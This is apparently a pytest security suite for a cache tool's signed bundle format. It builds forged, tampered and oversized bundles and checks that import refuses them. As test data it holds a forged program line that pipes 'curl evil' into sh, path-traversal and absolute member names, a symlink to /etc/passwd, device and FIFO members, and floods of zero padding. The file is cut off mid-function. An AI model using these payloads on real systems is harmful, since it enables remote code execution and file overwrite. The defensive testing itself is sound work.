"""Attacks on bundles (format 2): every byte proved, the signature over all of it, memory bounded,
the export file never written through a planted link; refused bundles change nothing anywhere."""

from __future__ import annotations

import gzip
import io
import json
import os
import pathlib
import re
import subprocess
import tarfile
import zlib

import pytest

import gtcache
from gtcache.bundle import BundleError, export_bundle, import_bundle, read_bundle, write_bundle
from tests.conftest import SIZE, CompiledStore
from tests.helpers import load_in_fresh_process
from tests.reliability.test_hostile_input import GTCACHE, files, gtcache_cli, one_line_error
from tests.security.crafting import (
    Member,
    build,
    edit,
    file_info,
    flip,
    manifest_for,
    payload,
    read_members,
    rewrite_record,
    sign,
    tree,
)
from tests.helpers import draft, gzip_as_exported, publish, tar_as_exported

KEY = b"ci-secret-0123456789"
ENV_KEY = {"GTCACHE_BUNDLE_KEY": KEY.decode()}


def cli_env(**extra: str) -> dict[str, str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("GTCACHE_")}
    return env | extra


def run_cli(store: pathlib.Path, *args: str, env: dict[str, str] | None = None,
            stdin: bytes | None = None) -> subprocess.CompletedProcess[str]:
    if env is None and stdin is None:
        return gtcache_cli(store, *args)
    result = subprocess.run([GTCACHE, "--cache-dir", str(store), *args], capture_output=True, timeout=300,
                            env=env if env is not None else cli_env(), input=stdin)
    return subprocess.CompletedProcess(result.args, result.returncode, result.stdout.decode(errors="replace"),
                                       result.stderr.decode(errors="replace"))


@pytest.fixture
def source(tmp_path: pathlib.Path) -> gtcache.Store:
    store = gtcache.open_store(tmp_path / "src")
    for name in ("a", "b"):
        publish(store, name, payload=name.encode() * 1000)
    store.publish(draft("two_files"), {"program.py": b"print(2)\n", "data.bin": os.urandom(3000)})
    return store


@pytest.fixture
def signed(source: gtcache.Store, tmp_path: pathlib.Path) -> pathlib.Path:
    return export_bundle(source, source.scan().entries, tmp_path / "signed.tar.gz", key=KEY).path  # type: ignore[return-value]


@pytest.fixture
def target(tmp_path: pathlib.Path) -> pathlib.Path:
    """A store that already holds two entries (which a refused import must leave byte-identical)."""
    root = tmp_path / "dst"
    store = gtcache.open_store(root)
    for name in ("kept_a", "kept_b"):
        publish(store, name, payload=name.encode() * 100)
    return root


def refused_by_cli(target: pathlib.Path, bundle: pathlib.Path, *args: str, env: dict[str, str] | None = None) -> str:
    """Import through the real command: one Error line, exit 1, the store's files unchanged."""
    before = files(target)
    line = one_line_error(run_cli(target, "import", str(bundle), *args, env=env), 1)
    assert files(target) == before
    assert not any((target / "tmp").iterdir()), "no staging left behind"
    return line


# -- the signature covers every byte ---------------------------------------------------------


def forged_record_and_payload(members: list[Member]) -> list[Member]:
    """Replace one entry's program.py and fix its entry.json (sizes, xxh3, record_xxh3) to match."""
    evil = b"import os\nos.system('curl evil | sh')\n"
    victim = next(i.name for i, _ in members if i.name.endswith("program.py"))
    folder = victim.rsplit("/", 1)[0]
    import xxhash

    def fix(record: dict) -> None:
        for item in record["files"]:
            if item["path"] == "program.py":
                item["size"], item["xxh3"] = len(evil), xxhash.xxh3_128_hexdigest(evil)

    members = edit(members, lambda n: n == victim, lambda _: evil)
    return edit(members, lambda n: n == f"{folder}/entry.json", lambda d: rewrite_record(d, fix))


def test_signed_bundle_with_forged_record_and_payload_is_refused(
    signed: pathlib.Path, target: pathlib.Path, tmp_path: pathlib.Path, figures
) -> None:
    members = read_members(signed)
    manifest = members[0][1]
    forged = build(tmp_path / "forged.tar.gz", payload(forged_record_and_payload(members)),
                   manifest=manifest, key=KEY)  # the manifest and its signature as they were
    line = refused_by_cli(target, forged, env=cli_env(**ENV_KEY))
    assert re.search(r"entry\.json' (does not match its SHA-256|has .*, the manifest says)", line), line
    # Re-listing the forged files needs a new manifest, which the key does not sign.
    relisted = build(tmp_path / "relisted.tar.gz", payload(forged_record_and_payload(members)),
                     signature=members[1][1])
    assert "wrong signature" in refused_by_cli(target, relisted, env=cli_env(**ENV_KEY))
    stripped = build(tmp_path / "stripped.tar.gz", payload(forged_record_and_payload(members)))
    assert "is not signed" in refused_by_cli(target, stripped, env=cli_env(**ENV_KEY))
    figures.add("security", "signed bundle, entry.json and program.py forged (record_xxh3 recomputed): exit code", 1)


@pytest.mark.parametrize("kind", ["entry.json", "program.py", "data.bin", "manifest", "signature"])
def test_tampering_with_any_member_is_refused(
    signed: pathlib.Path, tmp_path: pathlib.Path, kind: str, figures
) -> None:
    members = read_members(signed)
    manifest, signature = members[0][1], members[1][1]
    body = payload(members)
    if kind in ("entry.json", "program.py", "data.bin"):
        victim = next(i.name for i, _ in body if i.name.endswith(kind))
        bad = build(tmp_path / "bad.tar.gz", edit(body, lambda n: n == victim, flip), manifest=manifest, signature=signature)
        reason = f"'{victim}' does not match its SHA-256"
    elif kind == "manifest":
        bad = build(tmp_path / "bad.tar.gz", body, manifest=manifest.replace(b'"format": 2', b'"format":  2'),
                    signature=signature)
        reason = "wrong signature"
    else:
        bad = build(tmp_path / "bad.tar.gz", body, manifest=manifest, signature=flip(signature))
        reason = "wrong signature"
    store = gtcache.open_store(tmp_path / "fresh")
    before = tree(tmp_path)
    with pytest.raises(BundleError, match=reason):
        import_bundle(store, bad, key=KEY)
    assert tree(tmp_path) == before
    figures.add("security", f"signed bundle, {kind} changed: refused", "yes")


def _header_offset(raw: bytes, index: int) -> int:
    """Where the tar header of member ``index`` (0: the manifest) starts in the archive ``raw``."""
    at = 0
    for _ in range(index):
        at += 512 + -(-int(raw[at + 124:at + 136].rstrip(b"\0 "), 8) // 512) * 512
    return at


def _framing_changed(data: bytes, kind: str) -> bytes:
    """A signed bundle's bytes (as export wrote them) changed outside its members' contents."""
    raw = zlib.decompress(data, 31)
    if kind == "gzip header":  # the OS byte
        return data[:9] + b"\x03" + data[10:]
    if kind == "gzip trailer cut":
        return data[:-8]
    if kind == "gzip checksum":
        return data[:-8] + bytes([data[-8] ^ 1]) + data[-7:]
    if kind == "gzip size":  # ISIZE, the trailer's last 4 bytes (the CRC-32 left right)
        return data[:-4] + bytes([data[-4] ^ 1]) + data[-3:]
    if kind == "bytes after the gzip stream":
        return data + b"trailing"
    if kind == "a second gzip member":
        return data + gzip_as_exported(b"\0" * 10240)
    if kind in ("a member's mode", "the signature's mode", "an entry member's mode"):
        # mode 4777 in a header (the manifest's, the signature's, the first entry file's), its checksum made right again
        at = _header_offset(raw, {"a member's mode": 0, "the signature's mode": 1, "an entry member's mode": 2}[kind])
        header = bytearray(raw[at:at + 512])
        header[100:108] = b"0004777\0"
        header[148:156] = b" " * 8
        header[148:156] = f"{sum(header):06o}\0 ".encode()
        return gzip_as_exported(raw[:at] + bytes(header) + raw[at + 512:])
    if kind == "an entry member's time":  # another time than the manifest's (each one a valid ustar time)
        at = _header_offset(raw, 2)
        header = bytearray(raw[at:at + 512])
        header[136:148] = b"00000000001\0"
        header[148:156] = b" " * 8
        header[148:156] = f"{sum(header):06o}\0 ".encode()
        return gzip_as_exported(raw[:at] + bytes(header) + raw[at + 512:])
    if kind == "a member's time no ustar header holds":  # GNU base-256: -1
        header = bytearray(raw[:512])
        header[136:148] = b"\xff" * 12
        header[148:156] = b" " * 8
        header[148:156] = f"{sum(header):06o}\0 ".encode()
        return gzip_as_exported(bytes(header) + raw[512:])
    if kind in ("data in a member's padding", "data in an entry file's padding"):
        # the manifest's, the first entry file's (after the signature): its data does not fill its last block
        at = _header_offset(raw, 0 if kind == "data in a member's padding" else 2)
        size = int(raw[at + 124:at + 136].rstrip(b"\0 "), 8)
        assert size % 512, "the member fills its blocks: no padding to write into"
        return gzip_as_exported(raw[: at + 512 + size] + b"x" + raw[at + 512 + size + 1:])
    end = len(raw.rstrip(b"\0"))  # the last member's data ends here (it is no zero)
    end = -(-end // 512) * 512
    if kind == "data after the archive's end":
        return gzip_as_exported(raw[: end + 1024] + b"x" + raw[end + 1025:])
    if kind == "no end-of-archive blocks":
        return gzip_as_exported(raw[:end])
    if kind == "one end-of-archive block":  # zeros, but fewer than export writes
        return gzip_as_exported(raw[: end + 512])
    raise AssertionError(kind)


FRAMING = {
    "gzip header": "gzip header gtcache does not write",
    "gzip trailer cut": "cut short",
    "gzip checksum": "its gzip checksum does not match",
    "gzip size": "its gzip checksum does not match",
    "bytes after the gzip stream": "data after its gzip stream",
    "a second gzip member": "data after its gzip stream",
    "a member's mode": "has a tar header gtcache does not write",
    "the signature's mode": "member 'signature' has a tar header gtcache does not write",
    "an entry member's mode": "entry.json' has a tar header gtcache does not write",
    "a member's time no ustar header holds": "has a tar header gtcache does not write",
    "an entry member's time": "entry.json' has a tar header gtcache does not write",
    "data in a member's padding": "followed by data in its padding",
    "data in an entry file's padding": "entry.json' is followed by data in its padding",
    "data after the archive's end": "data after the end of its archive",
    "no end-of-archive blocks": "cut short",
    "one end-of-archive block": "fewer zeros after its last member",
}


@pytest.mark.parametrize("kind", list(FRAMING))
def test_a_signed_bundle_changed_outside_its_members_is_refused(
    signed: pathlib.Path, target: pathlib.Path, tmp_path: pathlib.Path, kind: str, figures
) -> None:
    """Every byte of a signed bundle counts, not only those the manifest's SHA-256 cover: the
    gzip header and trailer (CRC-32, size), the tar headers (mode, owners, time), the
    archive's end; nothing may follow. (A reviewer imported all of these.)"""
    bad = tmp_path / "framed.tar.gz"
    bad.write_bytes(_framing_changed(signed.read_bytes(), kind))
    line = refused_by_cli(target, bad, "--require-signature", env=cli_env(**ENV_KEY))
    assert FRAMING[kind] in line, line
    figures.add("security", f"signed bundle, {kind} changed (no member's content): refused", "yes")


def test_bytes_after_a_gzip_stream_that_ends_on_a_read_boundary_are_refused(
    target: pathlib.Path, tmp_path: pathlib.Path
) -> None:
    """The gzip stream is read in chunks of ``_CHUNK`` after its 10-byte header: a stream that
    ends exactly where a chunk ends leaves nothing after its trailer in that chunk, and what
    follows it is found only by reading on (``cat bundle junk | gtcache import -`` reads whole
    chunks too). A signed bundle made to end there, then one byte appended: refused; the
    bundle itself: imported."""
    import random

    from gtcache.bundle import _CHUNK, _GZIP_HEADER

    wanted = len(_GZIP_HEADER) + _CHUNK
    data = random.Random(0).randbytes(_CHUNK)  # incompressible: the bundle grows with the payload
    # Each entry's record (its time of creation) compresses a few bytes differently, and so
    # does each member time (``SOURCE_DATE_EPOCH``): aimed at the length wanted, some try hits it.
    size, bundle = _CHUNK - 4096, None
    for attempt in range(100):
        source = gtcache.open_store(tmp_path / f"src-{attempt}")
        source.publish(draft("big"), {"program.py": b"print(1)\n", "data.bin": data[:size]})
        lengths = []
        for mtime in range(0, 8 << 20, 1 << 20):
            made = export_bundle(source, source.scan().entries, tmp_path / "b.tar.gz", key=KEY, mtime=mtime,
                                 force=True).path
            assert made is not None
            lengths.append(made.stat().st_size)
            if lengths[-1] == wanted:
                bundle = made
                break
        if bundle is not None:
            break
        size += wanted - lengths[0]
    else:
        pytest.fail("no bundle ending exactly at a chunk's end was made")
    extended = tmp_path / "extended.tar.gz"
    extended.write_bytes(bundle.read_bytes() + b"x")
    line = refused_by_cli(target, extended, "--require-signature", env=cli_env(**ENV_KEY))
    assert "data after its gzip stream" in line, line
    ok = run_cli(target, "import", str(bundle), "--require-signature", env=cli_env(**ENV_KEY))
    assert ok.returncode == 0 and "Imported 1 entry" in ok.stdout, ok.stdout + ok.stderr


def test_an_archive_whose_end_marker_straddles_a_record_is_imported(tmp_path: pathlib.Path) -> None:
    """``tarfile`` pads the archive to a whole record (20 blocks) after its two zero blocks: when
    the first zero block is a record's last, the end is the two blocks plus a whole further
    record. The end check expects exactly what export writes, for every position of the end
    (here the one where the two end blocks fall into two records) and refuses one zero more."""
    for blocks in range(40):
        source = gtcache.open_store(tmp_path / f"src-{blocks}")
        source.publish(draft("sized"), {"program.py": b"p" * (512 * blocks + 1)})
        bundle = export_bundle(source, source.scan().entries, tmp_path / f"b-{blocks}.tar.gz", key=KEY).path
        assert bundle is not None
        raw = zlib.decompress(bundle.read_bytes(), 31)
        at = -(-len(raw.rstrip(b"\0")) // 512) * 512  # the end marker's first block
        if at % tarfile.RECORDSIZE == tarfile.RECORDSIZE - 512:
            break
    else:
        pytest.fail("no bundle with its end marker across two records was made")
    assert len(raw) - at == 1024 + tarfile.RECORDSIZE - 512
    report = import_bundle(gtcache.open_store(tmp_path / "dst"), bundle, key=KEY, require_signature=True)
    assert len(report.imported) == 1
    more = tmp_path / "more.tar.gz"
    more.write_bytes(gzip_as_exported(raw + b"\0" * 512))
    with pytest.raises(BundleError, match="more zeros after its last member"):
        import_bundle(gtcache.open_store(tmp_path / "dst2"), more, key=KEY)


class _Counting(io.BytesIO):
    """A stream that counts the bytes read from it."""

    taken = 0

    def read(self, size: int | None = -1) -> bytes:
        data = super().read(size)
        self.taken += len(data)
        return data


def test_zeros_after_the_end_are_read_no_further_than_export_writes_them(signed: pathlib.Path,
                                                                         tmp_path: pathlib.Path) -> None:
    """Zeros appended after the archive's end compress a thousandfold, and no signature covers
    them: the end check stops one byte past the end export writes, never inflating the rest
    (a reviewer's 4 MB bundle held 4 GiB of zeros: refused after 30 s of inflating). Stored
    uncompressed here, so that the bytes read tell how far the check went."""
    raw = zlib.decompress(signed.read_bytes(), 31)
    stored = io.BytesIO()  # deflate's stored blocks (level 0; the header is export's): what is read shows
    with gzip.GzipFile(filename="", mode="wb", fileobj=stored, mtime=0, compresslevel=0) as gz:
        gz.write(raw + b"\0" * (64 << 20))
    stream = _Counting(stored.getvalue())
    with pytest.raises(BundleError, match="more zeros after its last member"):
        read_bundle(stream, gtcache.open_store(tmp_path / "fresh"), key=KEY)
    assert stream.taken < len(stream.getvalue()) // 4, (stream.taken, len(stream.getvalue()))
    assert not list((tmp_path / "fresh").glob("entries/*/*"))


def test_a_bundle_as_export_writes_it_passes_the_framing_checks(signed: pathlib.Path, tmp_path: pathlib.Path) -> None:
    """The other side of the framing checks: what export writes, gzipped again the same way
    (``tar_as_exported``), is imported, entries and all."""
    again = tmp_path / "again.tar.gz"
    again.write_bytes(gzip_as_exported(zlib.decompress(signed.read_bytes(), 31)))
    assert again.read_bytes() == signed.read_bytes()  # export's gzip framing is the helpers'
    report = import_bundle(gtcache.open_store(tmp_path / "fresh"), again, key=KEY, require_signature=True)
    assert len(report.imported) == 3


# -- keys and signature demands ----------------------------------------------------------------


def test_empty_key_is_an_error_not_a_free_pass(source: gtcache.Store, target: pathlib.Path,
                                               tmp_path: pathlib.Path, figures) -> None:
    unsigned = export_bundle(source, source.scan().entries, tmp_path / "unsigned.tar.gz").path
    assert unsigned is not None
    for value in ("", "  "):
        line = refused_by_cli(target, unsigned, env=cli_env(GTCACHE_BUNDLE_KEY=value))
        assert "GTCACHE_BUNDLE_KEY is set but empty" in line, line
        out = tmp_path / "out.tar.gz"
        one_line_error(run_cli(source.root, "export", str(out), env=cli_env(GTCACHE_BUNDLE_KEY=value)), 1)
        assert not out.exists()
    with pytest.raises(BundleError, match="key is empty"):
        import_bundle(gtcache.open_store(target), unsigned, key=b"")
    figures.add("security", "GTCACHE_BUNDLE_KEY set but empty: import/export exit code", 1)


def test_signatures_can_be_required(source: gtcache.Store, signed: pathlib.Path, target: pathlib.Path,
                                    tmp_path: pathlib.Path, figures) -> None:
    unsigned = export_bundle(source, source.scan().entries, tmp_path / "unsigned.tar.gz").path
    assert unsigned is not None
    assert "is not signed" in refused_by_cli(target, unsigned, env=cli_env(**ENV_KEY))
    both = cli_env(GTCACHE_BUNDLE_REQUIRE_SIGNED="1", **ENV_KEY)
    assert "is not signed, and signed bundles are required" in refused_by_cli(target, unsigned, env=both)
    assert "signed bundles are required" in refused_by_cli(target, unsigned, "--require-signature",
                                                           env=cli_env(**ENV_KEY))
    # Asking for signatures without a key to check them is refused up front.
    assert "not set to check" in refused_by_cli(target, signed, "--require-signature")
    assert "not set to check" in refused_by_cli(target, signed, env=cli_env(GTCACHE_BUNDLE_REQUIRE_SIGNED="yes"))
    assert "neither 1 nor 0" in refused_by_cli(target, signed, env=cli_env(GTCACHE_BUNDLE_REQUIRE_SIGNED="ture"))
    ok = run_cli(target, "import", str(signed), "--require-signature", env=both)
    assert ok.returncode == 0 and "Imported 3 entries" in ok.stdout, ok.stdout + ok.stderr
    figures.add("security", "unsigned bundle with --require-signature / GTCACHE_BUNDLE_REQUIRE_SIGNED=1: exit code", 1)


# -- malformed manifests and signatures: one line, exit 1 --------------------------------------


def _nested(depth: int) -> bytes:
    return b'{"format": 2, "members": ' + b"[" * depth + b"]" * depth + b', "gtcache_version": "x"}'


MALFORMED = {
    "a non-ASCII signature": (None, "signature\u00e9".encode() * 4),
    "members that are not objects": (json.dumps({"format": 2, "gtcache_version": "x", "members": ["a", 1]}).encode(), None),
    "entries of format 1 that are not objects": (json.dumps({"format": 2, "gtcache_version": "x", "members": {"a": 1}}).encode(), None),
    "a manifest that is not UTF-8": (b'{"format": 2, "members": [], "gtcache_version": "\xff\xfe"}', None),
    "a manifest nested 5,000 levels deep": (_nested(5000), None),
    "a manifest that is a list": (b"[]", None),
    "a manifest with a bad size": (json.dumps({"format": 2, "gtcache_version": "x", "members": [
        {"path": "entries/ab/ab" + "0" * 30 + "/entry.json", "size": -1, "sha256": "0" * 64}]}).encode(), None),
}


@pytest.mark.parametrize("damage", list(MALFORMED))
def test_malformed_manifest_or_signature_is_one_line(signed: pathlib.Path, target: pathlib.Path,
                                                     tmp_path: pathlib.Path, damage: str, figures) -> None:
    members = read_members(signed)
    manifest, signature = MALFORMED[damage]
    bad = build(tmp_path / "bad.tar.gz", payload(members), manifest=manifest or members[0][1],
                signature=signature or members[1][1])
    line = refused_by_cli(target, bad, env=cli_env(**ENV_KEY) if signature else None)
    assert "Traceback" not in line and str(bad) in line, line
    figures.add("security", f"bundle with {damage}: one Error line, exit code", 1)


def test_format_1_bundle_is_refused_with_what_to_do(signed: pathlib.Path, target: pathlib.Path,
                                                    tmp_path: pathlib.Path) -> None:
    members = payload(read_members(signed))
    old = build(tmp_path / "old.tar.gz", members, manifest=json.dumps(
        {"format": 1, "gtcache_version": "0.3.0", "entries": {}}, indent=1).encode(), key=KEY)
    line = refused_by_cli(target, old, env=cli_env(**ENV_KEY))
    assert "bundle format 1; this gtcache reads format 2: export it again" in line, line


# -- hostile members, even when the manifest lists them with true checksums ------------------


def hostile(kind: str, members: list[Member], tmp_path: pathlib.Path) -> list[Member]:
    entry_json = next(i.name for i, _ in members if i.name.endswith("entry.json"))
    folder = entry_json.rsplit("/", 1)[0]
    if kind == "duplicate":
        return [*members, members[-1]]
    key = folder.rsplit("/", 1)[1]
    names = {"traversal": "entries/../../evil", "deep traversal": f"{folder}/../../../../evil",
             "absolute": f"{tmp_path}/evil", "backslash": f"{folder}\\..\\evil",
             "another shard": f"entries/{'00' if key[:2] != '00' else '11'}/{key}/evil"}
    if kind in names:
        return [*members, (file_info(names[kind], b"evil"), b"evil")]
    info = tarfile.TarInfo(f"{folder}/extra.so")
    if kind == "symlink":
        info.type, info.linkname = tarfile.SYMTYPE, "/etc/passwd"
    elif kind == "hardlink":
        info.type, info.linkname = tarfile.LNKTYPE, entry_json
    elif kind == "device":
        info.type, info.devmajor, info.devminor = tarfile.CHRTYPE, 1, 3
    elif kind == "fifo":
        info.type = tarfile.FIFOTYPE
    elif kind == "folder":
        info.type, info.name = tarfile.DIRTYPE, folder
    return [*members, (info, b"")]


HOSTILE = {
    "traversal": "not a canonical name",
    "deep traversal": "not a canonical name",
    "absolute": "not a canonical name",
    "backslash": "not a canonical name",
    "another shard": "not a canonical name",  # entries/<k2>/<key>: k2 is the key's first two digits
    "symlink": "is a symbolic link, not a regular file",
    "hardlink": "is a hard link, not a regular file",
    "device": "is a device, not a regular file",
    "fifo": "is a FIFO, not a regular file",
    "folder": "not a canonical name",
    "duplicate": "appears twice",
}


@pytest.mark.parametrize("kind", list(HOSTILE))
@pytest.mark.parametrize("listed", [True, False], ids=["listed", "unlisted"])
def test_hostile_members_are_refused(signed: pathlib.Path, tmp_path: pathlib.Path, monkeypatch: pytest.MonkeyPatch,
                                     kind: str, listed: bool, figures) -> None:
    body = payload(read_members(signed))
    members = hostile(kind, body, tmp_path)
    bad = build(tmp_path / "hostile.tar.gz", members, key=KEY, listed=members if listed else body)
    store = gtcache.open_store(tmp_path / "stores" / "dst")
    (tmp_path / "cwd").mkdir()
    monkeypatch.chdir(tmp_path / "cwd")
    before = tree(tmp_path)
    # Listed or not, the header alone refuses them (duplicates: the second header).
    with pytest.raises(BundleError, match=HOSTILE[kind]):
        import_bundle(store, bad, key=KEY)
    assert tree(tmp_path) == before, "nothing written anywhere (store, its parent, the cwd)"
    assert not (tmp_path / "evil").exists() and not (tmp_path / "stores" / "evil").exists()
    figures.add("security", f"{'listed' if listed else 'unlisted'} {kind} member: refused, files changed", "yes, 0")


def test_members_missing_or_unlisted_are_refused(signed: pathlib.Path, tmp_path: pathlib.Path) -> None:
    body = payload(read_members(signed))
    store = gtcache.open_store(tmp_path / "dst")
    with pytest.raises(BundleError, match="lacks member .* its manifest lists"):
        import_bundle(store, build(tmp_path / "short.tar.gz", body[:-1], listed=body), key=None)
    with pytest.raises(BundleError, match="is not in the manifest"):
        import_bundle(store, build(tmp_path / "extra.tar.gz", body, listed=body[:-1]), key=None)
    no_record = [m for m in body if m[0].name != body[0][0].name]
    with pytest.raises(BundleError, match="but no 'entry.json'"):
        import_bundle(store, build(tmp_path / "norec.tar.gz", no_record), key=None)
    signature_late = build(tmp_path / "late.tar.gz", [*body, (file_info("signature", b"0" * 64), b"0" * 64)],
                           listed=body)
    with pytest.raises(BundleError, match="second 'signature'"):
        import_bundle(store, signature_late)
    assert not list(store.root.glob("entries/*/*"))


def test_a_manifest_or_record_that_disagrees_with_the_members_is_refused(signed: pathlib.Path,
                                                                         tmp_path: pathlib.Path) -> None:
    """What the manifest lists and each record lists must be what the archive holds, no more:
    a file listed and sent for an entry whose record does not name it, a record naming another
    key than the folder it comes in (it would be published at that key: a bundle named after
    one entry would bring another), a record whose checksum is not its file's, a member listed twice, a manifest with a field of its own.
    Each refused, nothing published."""
    body = payload(read_members(signed))
    folder = body[0][0].name.rsplit("/", 1)[0]
    extra = [*body, (file_info(f"{folder}/extra.so", b"\x7fELF"), b"\x7fELF")]
    twice = json.loads(manifest_for(body))
    twice["members"].append(twice["members"][-1])
    field = json.loads(manifest_for(body)) | {"note": "x"}
    records = [(i, d) for i, d in body if i.name.endswith("/entry.json")]
    (first, _), (_, second) = records[0], records[1]  # the second entry's record under the first's name
    swapped = [(file_info(first.name, second), second) if i.name == first.name else (i, d) for i, d in body]

    def wrong_checksum(record: dict) -> None:
        record["files"][0]["xxh3"] = "0" * 32

    misrecorded = edit(body, lambda n: n == first.name, lambda d: rewrite_record(d, wrong_checksum))
    cases = {
        "has other files than its record lists": build(tmp_path / "extra.tar.gz", extra),
        "does not match its record's checksum": build(tmp_path / "misrecorded.tar.gz", misrecorded),
        f"the record of entry '{first.name.split('/')[2]}' names key '{records[1][0].name.split('/')[2]}'":
            build(tmp_path / "swapped.tar.gz", swapped),
        f"lists member '{body[-1][0].name}' twice": build(tmp_path / "twice.tar.gz", body,
                                                          manifest=json.dumps(twice).encode()),
        "'manifest.json' has fields": build(tmp_path / "field.tar.gz", body, manifest=json.dumps(field).encode()),
    }
    for reason, bundle in cases.items():
        store = gtcache.open_store(tmp_path / "dst")
        with pytest.raises(BundleError, match=re.escape(reason)):
            import_bundle(store, bundle)
        assert not list(store.root.glob("entries/*/*")), reason


def test_an_import_into_a_read_only_store_is_refused(signed: pathlib.Path, tmp_path: pathlib.Path) -> None:
    root = tmp_path / "dst"
    gtcache.open_store(root)
    with pytest.raises(BundleError, match="is read-only; cannot import into it"):
        import_bundle(gtcache.open_store(root, read_only=True), signed, key=KEY)
    assert not list(root.glob("entries/*/*")) and not list((root / "tmp").iterdir())


def test_extension_headers_are_refused_before_their_contents_are_read(signed: pathlib.Path,
                                                                     tmp_path: pathlib.Path) -> None:
    body = payload(read_members(signed))
    out = tmp_path / "pax.tar.gz"
    long_name = body[0][0].name.rsplit("/", 1)[0] + "/" + "x" * 120  # needs a pax header
    with tar_as_exported(out, tarfile.PAX_FORMAT) as tar:
        manifest = manifest_for(body)
        tar.addfile(file_info("manifest.json", manifest), io.BytesIO(manifest))
        tar.addfile(file_info(long_name, b"x"), io.BytesIO(b"x"))
    with pytest.raises(BundleError, match="tar extension header"):
        import_bundle(gtcache.open_store(tmp_path / "dst"), out)


# -- memory stays bounded --------------------------------------------------------------------


def test_member_larger_than_listed_is_refused_at_its_header(signed: pathlib.Path, target: pathlib.Path,
                                                            tmp_path: pathlib.Path, figures) -> None:
    """A header claiming 8 GiB, and the archive ends right after it: reading the data would
    fail differently, so this message proves the header alone refused it."""
    body = payload(read_members(signed))
    out = tmp_path / "huge.tar.gz"
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w", format=tarfile.USTAR_FORMAT) as tar:
        manifest = manifest_for(body)
        tar.addfile(file_info("manifest.json", manifest), io.BytesIO(manifest))
        huge = file_info(body[1][0].name, b"")
        huge.size = (8 << 30) - 512  # the most a ustar header holds
        tar.fileobj.write(huge.tobuf(tarfile.USTAR_FORMAT, "utf-8", "surrogateescape"))  # type: ignore[union-attr]
        tar.fileobj.write(b"\0" * 4096)  # type: ignore[union-attr]
        tar.offset = tar.fileobj.tell()  # type: ignore[union-attr]
        tar.closed = True  # no end-of-archive blocks: the data is cut short
    out.write_bytes(gzip_as_exported(raw.getvalue()))
    line = refused_by_cli(target, out)
    assert f"'{body[1][0].name}' has 8.0 GiB, the manifest says" in line, line
    figures.add("security", "member header claiming 8 GiB (manifest: a few KiB): refused at its header", "yes")


def test_a_manifest_claiming_more_than_the_total_limit_is_refused_before_staging(
        signed: pathlib.Path, target: pathlib.Path, tmp_path: pathlib.Path) -> None:
    """Each member within its own limit, but all of them past ``MAX_TOTAL_SIZE``: the manifest
    alone refuses the bundle, naming the limit, before a member is streamed into ``tmp/``. The
    true members come first in the archive, so a refusal after staging them would say something
    else (a member missing); only the manifest's claims are big, nothing of that size is written."""
    from gtcache.bundle import MAX_MEMBER_SIZE, MAX_TOTAL_SIZE
    from gtcache.store._scan import format_size

    body = payload(read_members(signed))
    document = json.loads(manifest_for(body))
    folder = body[0][0].name.rsplit("/", 1)[0]  # one of the bundle's entries gets the extra files
    document["members"] += [
        {"path": f"{folder}/part-{number:03d}.bin", "size": MAX_MEMBER_SIZE, "sha256": "0" * 64}
        for number in range(MAX_TOTAL_SIZE // MAX_MEMBER_SIZE)
    ]
    assert sum(member["size"] for member in document["members"]) > MAX_TOTAL_SIZE
    bundle = build(tmp_path / "claims.tar.gz", body, manifest=json.dumps(document, indent=1).encode())
    before = files(target)
    limit = re.escape(f"holds more than {format_size(MAX_TOTAL_SIZE)}, the limit")
    with pytest.raises(BundleError, match=limit):
        import_bundle(gtcache.open_store(target), bundle)
    assert files(target) == before, "no entry imported, none changed"
    assert not any((target / "tmp").iterdir()), "no staging left behind"


def test_a_manifest_over_its_limit_is_refused_at_its_header(signed: pathlib.Path, target: pathlib.Path,
                                                           tmp_path: pathlib.Path) -> None:
    """``manifest.json`` is read into memory: a header claiming more than ``MAX_MANIFEST_SIZE``
    is refused before a byte of it is read (the archive ends right after the header: reading
    would fail differently)."""
    from gtcache.bundle import MAX_MANIFEST_SIZE

    raw = io.BytesIO()
    huge = file_info("manifest.json", b"")
    huge.size = MAX_MANIFEST_SIZE + 1
    raw.write(huge.tobuf(tarfile.USTAR_FORMAT, "utf-8", "surrogateescape"))
    raw.write(b"\0" * 4096)
    out = tmp_path / "huge-manifest.tar.gz"
    out.write_bytes(gzip_as_exported(raw.getvalue()))
    line = refused_by_cli(target, out)
    assert "'manifest.json' has 16.0 MiB, over the 16.0 MiB limit" in line, line


def test_a_signature_longer_than_a_signature_is_refused(signed: pathlib.Path, tmp_path: pathlib.Path) -> None:
    """The signature member is read into memory: one longer than a signature could be is
    refused as none, with a key or without (without a key an unchecked signature would
    otherwise pass, whatever its size)."""
    members = read_members(signed)
    manifest = members[0][1]
    bad = build(tmp_path / "long-signature.tar.gz", payload(members), manifest=manifest,
                signature=sign(KEY, manifest) * 4 + b"0")
    for key in (KEY, None):
        store = gtcache.open_store(tmp_path / f"dst-{key is None}")
        with pytest.raises(BundleError, match="its 'signature' is not a signature"):
            import_bundle(store, bad, key=key)
        assert not list(store.root.glob("entries/*/*"))


def test_a_record_listed_over_its_limit_is_refused_by_the_manifest(signed: pathlib.Path,
                                                                  tmp_path: pathlib.Path) -> None:
    """Each ``entry.json`` is read into memory when the entries are checked: the manifest
    listing one of more than ``MAX_RECORD_SIZE`` refuses the bundle, before anything is staged
    (the member itself is its true size: a refusal after staging would say otherwise)."""
    from gtcache.bundle import MAX_RECORD_SIZE

    body = payload(read_members(signed))
    document = json.loads(manifest_for(body))
    record = next(m for m in document["members"] if m["path"].endswith("/entry.json"))
    record["size"] = MAX_RECORD_SIZE + 1
    bundle = build(tmp_path / "big-record.tar.gz", body, manifest=json.dumps(document, indent=1).encode())
    store = gtcache.open_store(tmp_path / "dst")
    with pytest.raises(BundleError, match=re.escape(f"member '{record['path']}' has 4.0 MiB, over the 4.0 MiB limit")):
        import_bundle(store, bundle)
    assert not list(store.root.glob("entries/*/*")) and not any((store.root / "tmp").iterdir())


def _import_peak_rss(tmp_path: pathlib.Path, size: int) -> int:
    """Peak resident memory of a ``gtcache import`` of a bundle with one ``size``-byte member."""
    zeros = tmp_path / f"zeros-{size}.bin"
    with open(zeros, "wb") as stream:
        stream.truncate(size)
    source = gtcache.open_store(tmp_path / f"src-{size}")
    source.publish(draft("zeros"), {"program.py": b"print(1)\n", "zeros.bin": zeros})
    bundle = tmp_path / f"zeros-{size}.tar.gz"
    export_bundle(source, source.scan().entries, bundle)
    zeros.unlink()
    target = tmp_path / f"dst-{size}"
    out, err = tmp_path / "out.txt", tmp_path / "err.txt"
